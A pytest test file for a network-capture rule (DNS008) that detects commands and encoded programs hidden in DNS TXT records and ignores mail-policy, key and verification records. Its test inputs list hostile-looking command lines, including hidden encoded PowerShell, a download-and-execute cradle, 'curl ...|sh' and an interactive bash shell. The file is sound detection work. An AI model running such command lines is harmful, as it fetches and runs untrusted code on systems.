"""DNS008: commands and encoded programs in TXT; quiet on mail policy, keys and proofs of ownership."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.builders import drafts, family, tables
from tests.rules.names import wire
from tests.rules.names.wire import ask, r, tell
from tshark_report.rules.names.command_answers import command_answers, kind_of


@pytest.mark.parametrize(
    "text",
    [
        "powershell -nop -w hidden -enc SQBFAFgA",
        "cmd /c whoami",
        "IEX (New-Object Net.WebClient).DownloadString('x')",
        "/bin/bash -i",
        "curl http://x/y|sh",
        "wget -q http://x/y",
        "certutil -urlcache",
    ],
)
def test_commands(text: str) -> None:
    assert kind_of(text) == "a command"


def test_encoded_programs_and_long_texts() -> None:
    assert kind_of("TVqQAAMAAAAEAAAA" + "A" * 40) == "an encoded program"
    assert kind_of("Q" * 120) == "a long encoded text"
    assert not kind_of("Q" * 119)
    assert kind_of("ab" * 60) == "a long encoded text"


@pytest.mark.parametrize(
    "text",
    [
        "v=spf1 include:_spf.example.com ~all",
        "v=DKIM1; k=rsa; p=" + "A" * 200,
        "k=rsa; p=" + "A" * 200,
        "p=" + "B" * 200,
        "google-site-verification=" + "c" * 120,
        "MS=ms12345678",
        "docusign=05958488-4752-4ef2-95eb-aa7ba8a3bd0e",
        "apple-domain-verification=" + "d" * 120,
        "some-vendor-verification=" + "e" * 150,
        "hello world",
        "",
    ],
)
def test_ordinary_texts(text: str) -> None:
    assert not kind_of(text)


def test_fires_and_its_filter_is_exact(loaded, tmp_path: Path) -> None:  # noqa: ANN001
    spf, cmd = "example.com", "c.example.net"
    path = wire.write(
        tmp_path / "txt.pcap",
        [
            ask(0, 1, spf, 16),
            tell(0.1, 1, spf, [wire.txt(spf, "v=spf1 -all")], 16),
            ask(1, 2, cmd, 16),
            tell(1.1, 2, cmd, [wire.txt(cmd, "powershell -enc AAAA")], 16),
            ask(2, 3, cmd, 1),
            tell(2.1, 3, cmd, [wire.a(cmd, "192.0.2.7")], 1),
        ],
    )
    found = drafts(command_answers, loaded(path).tables)
    assert [(d.priority, d.hosts[0]) for d in found] == [("high", wire.CLIENT)]
    assert "c.example.net" in found[0].summary
    assert list(found[0].frames) == [4]
    assert wire.exact(path, found[0])


def test_a_long_text_alone_is_low() -> None:
    found = drafts(command_answers, tables(dns=family("dns", r("x.example.com", 16, txt="Q" * 150))))
    assert found[0].priority == "low"


def test_quiet_on_service_labels() -> None:
    assert not drafts(command_answers, tables(dns=family("dns", r("_acme-challenge.example.com", 16, txt="Q" * 150))))
